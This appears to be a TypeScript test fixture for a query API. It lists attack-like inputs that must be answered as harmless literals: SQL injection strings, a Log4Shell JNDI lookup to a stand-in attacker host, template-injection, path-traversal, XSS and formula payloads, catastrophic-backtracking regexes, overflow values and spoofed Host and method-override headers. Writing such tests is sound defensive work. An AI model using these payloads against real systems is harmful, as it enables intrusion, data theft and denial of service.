import type { Row } from './live-feed.js';

/** A query that looks like an attack and is legal: which rows it means, said without the engine. */
export type LegalFilter = readonly [name: string, filter: string, means: (row: Row) => boolean];

const none = () => false;
const named = (name: string) => (row: Row) => row.displayName === name;
const text = (value: unknown): string => (typeof value === 'string' ? value : '');

/** `or` in a row until the filter has 10,000 characters. */
const longChain = (): string => {
  const scores = [3, 4, 5];
  const parts: string[] = [];
  while (parts.join(' or ').length < 10_000)
    parts.push(`riskScore eq ${scores[parts.length % scores.length]!}`);
  return parts.join(' or ');
};

const literal = (value: string): string => `'${value.replaceAll("'", "''")}'`;

const INJECTIONS = [
  "' or '1'='1",
  "'; DROP TABLE DiscoveredApps; --",
  "' UNION SELECT password FROM users --",
  "1' AND SLEEP(5)#",
  '{"$ne":null}',
  '${jndi:ldap://evil.example/x}',
  '{{constructor.constructor("return process")()}}',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '\u202eedoc live',
  '__proto__',
  '%00',
  "O'Reilly",
  'Rocket 🚀 Mail',
  '👩‍👩‍👧 Family Share',
  'البريد السريع',
  'Johnson & Sons <CRM>',
  '100% Cloud Backup',
  'Notepad++',
  'C# Corner',
  'Path\\Finder',
  '=HYPERLINK("http://x.example")',
] as const;

export const LEGAL_FILTERS: readonly LegalFilter[] = [
  ...INJECTIONS.map((value): LegalFilter => [
    `displayName eq ${value}`,
    `displayName eq ${literal(value)}`,
    named(value),
  ]),
  [
    'contains with a quote',
    `contains(displayName,${literal("'")})`,
    (row) => text(row.displayName).includes("'"),
  ],
  [
    'a percent sign is no wildcard',
    "contains(displayName,'%')",
    (row) => text(row.displayName).includes('%'),
  ],
  ['an underscore is no wildcard', "contains(displayName,'_')", (row) => text(row.displayName).includes('_')],
  ['an or chain of 10,000 characters', longChain(), (row) => [3, 4, 5].includes(row.riskScore as number)],
  [
    'an in list of 2,000 values',
    `riskScore in (${Array.from({ length: 2_000 }, (_, i) => i + 8).join(',')})`,
    (row) => Number(row.riskScore) >= 8,
  ],
  ['150 parentheses', `${'('.repeat(150)}riskScore eq 3${')'.repeat(150)}`, (row) => row.riskScore === 3],
  [
    'a pattern that stalls backtracking engines',
    "matchesPattern(displayName,'^(a+)+$')",
    (row) => /^a+$/.test(text(row.displayName)),
  ],
  ['a pattern of nested stars', "matchesPattern(displayName,'(.*)*(.*)*(.*)*!{3}')", none],
  ['an integer above Int64', 'userCount lt 99999999999999999999', (row) => row.userCount !== null],
  ['a double above all doubles', 'userCount eq 1e400', none],
  ['not a number', 'userCount eq NaN', none],
  ['a sum above Int64', 'userCount add 9223372036854775807 lt 0', none],
  ['a substring from nowhere', "substring(displayName,2147483647) eq ''", (row) => row.displayName !== null],
  ['a duration of 273,000 years', "lastSeenDateTime add duration'P99999999D' lt 2020-01-01T00:00:00Z", none],
];

/** Requests that are odd and right: answered 200, whatever they carry. */
export const HARMLESS: readonly (readonly [
  name: string,
  query: string,
  headers: Readonly<Record<string, string>>,
])[] = [
  [
    'preferences without sense',
    '',
    { Prefer: 'odata.maxpagesize=-1, __proto__=x; constructor=1, maxpagesize=NaN' },
  ],
  ['codings without sense', '', { 'Accept-Encoding': '__proto__, constructor;q=1' }],
  ['entity tags without sense', '', { 'If-None-Match': 'W/"x", """,,,' }],
  ['a range', '', { Range: 'bytes=0-1' }],
  ['custom options named as prototypes', '&__proto__=1&constructor[prototype][x]=1', {}],
  ['a key that nobody asked for', '&key=%FF', {}],
  ['a broken custom cookie', '', { Cookie: '__proto__=%; ===;;' }],
  ['a hostile Host', '', { Host: 'evil.example' }],
  [
    'a hostile forwarded host',
    '',
    { 'X-Forwarded-Host': 'evil.example', 'X-Forwarded-Proto': 'gopher', Forwarded: 'host=evil.example' },
  ],
  ['a method override', '', { 'X-HTTP-Method-Override': 'DELETE', 'X-HTTP-Method': 'DELETE' }],
  ['an address override', '', { 'X-Original-URL': '/live', 'X-Rewrite-URL': '/live' }],
];
